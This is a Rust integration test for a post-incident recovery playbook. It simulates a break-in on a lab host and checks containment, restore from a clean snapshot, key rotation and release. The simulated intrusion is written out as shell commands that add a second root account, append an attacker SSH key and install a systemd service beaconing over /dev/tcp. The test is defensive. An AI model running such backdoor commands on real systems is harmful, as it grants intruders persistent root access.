//! The night of an intrusion as one playbook: evidence, quarantine, back to the clean disk, hardening, new keys, and out again.

use crate::common::{Fleet, Run, told};
use std::os::unix::fs::PermissionsExt;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

const RECOVERY: &str = "playbooks/post-incident-recovery.yml";

fn ends(run: &Run, code: i32, says: &str) {
    assert!(run.code == code && run.flat().contains(says), "{code} {says}: {} {}{}", run.code, run.out, run.err);
}

/// The keeper of the lab's disks, as `disk_tool` is called.
fn tool(fleet: &Fleet) -> String {
    let path = fleet.0.dir().join("disk-tool");
    let text = format!(
        "#!/bin/sh\nverb=$1 host=$2 id=$3\ns={}\nl=\"--name {}\"\ncase $verb in\nlist) exec $s lab snapshots $l $host ;;\n\
         create) exec $s lab snapshot $l $host $id ;;\napply) exec $s lab restore $l $host $id ;;\nstop|start) exec $s lab $verb $l $host ;;\n\
         status) echo done; exit 0 ;;\nesac\nexit 1\n",
        env!("CARGO_BIN_EXE_steadfast"),
        fleet.0.name
    );
    std::fs::write(&path, text).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path.display().to_string()
}

#[test]
fn a_host_that_was_broken_into_is_contained_put_back_hardened_and_let_go() {
    let fleet = Fleet::up(2);
    let (inventory, tool) = (fleet.inventory(), tool(&fleet));
    let call = |words: &[&str]| {
        let mut call = fleet.call(&[words, &["-i", &inventory, "-l", "h1"]].concat());
        told(&call.env("STEADFAST_KEYS_PASSPHRASE", "drill-5521").output().unwrap())
    };
    // The nightly policy makes the clean snapshot.
    let disk = serde_json::json!({"disk_tool": tool}).to_string();
    ends(&call(&["apply", "playbooks/snapshot-policy.yml", "-y", "-e", &disk]), 0, "changed=1");
    std::thread::sleep(Duration::from_millis(1100));
    let ms = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_millis() as u64;
    // Somebody breaks in: a second root, a key of theirs, a beacon that comes back by itself.
    let other = fleet.0.host("h2").unwrap().address.clone();
    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBrhkEKp6Y4Zz7kBlsSL5vNFyBOn0vJzXIPSrNYuuT5x evil";
    let broken = format!(
        "useradd -o -u 0 -M toor && echo '{key}' >>/root/.ssh/authorized_keys && \
         printf '[Service]\\nExecStart=/bin/bash -c \"while :; do echo x >/dev/tcp/{other}/22; sleep 1; done\"\\n[Install]\\nWantedBy=multi-user.target\\n' \
         >/etc/systemd/system/beacon.service && systemctl enable -q --now beacon && sync"
    );
    ends(&fleet.inside("h1", &broken), 0, "");
    let vars = serde_json::json!({
        "disk_tool": tool,
        "compromised_at": steadfast::moment::written(ms),
        "clean_at_least": "1s",
        "admins": [format!("{}.1", fleet.0.subnet)],
        "owner": "alice, incident 4711",
        "keys_exclusive": true,
        "install_packages": false,
    })
    .to_string();
    // Contained, and nothing more before somebody says yes.
    let held = call(&["apply", RECOVERY, "-y", "-e", &vars]);
    ends(&held, 3, "`--approve go-back`");
    let out = format!("timeout 2 bash -c 'exec 3<>/dev/tcp/{other}/22'");
    assert_ne!(fleet.inside("h1", &out).code, 0, "the beacon gets out");
    assert_eq!(fleet.inside("h1", "systemctl is-active beacon").out, "active\n");
    let evidence = fleet.0.dir().join("state/evidence");
    assert_eq!(std::fs::read_dir(&evidence).unwrap().count(), 1);

    let done = call(&["apply", RECOVERY, "-y", "-e", &vars, "--approve", "go-back", "--approve", "let-go-yes"]);
    ends(&done, 0, "it runs on its disk of");
    let state =
        fleet.inside("h1", "id toor; cat /etc/systemd/system/beacon.service; grep -c evil /root/.ssh/authorized_keys");
    assert_eq!(state.out, "0\n", "{}{}", state.out, state.err);
    assert_eq!(fleet.inside("h1", &out).code, 0, "it is let go");
    // The key of before the intrusion is dead; the one of the ledger gets in.
    let old = fleet.0.dir().join("id_ed25519");
    assert!(!fleet.lets_in("h1", &old), "the key of before still gets in");
    let again = call(&["check", "playbooks/key-rotation.yml"]);
    ends(&again, 0, "");
    // The story can be told afterwards, stage by stage.
    for part in [
        "approved by",
        "its machine is stopped",
        "its disk is put back",
        "its machine starts",
        "is gone, and cannot be taken back",
    ] {
        assert!(done.flat().contains(part), "{part}: {}", done.out);
    }
}
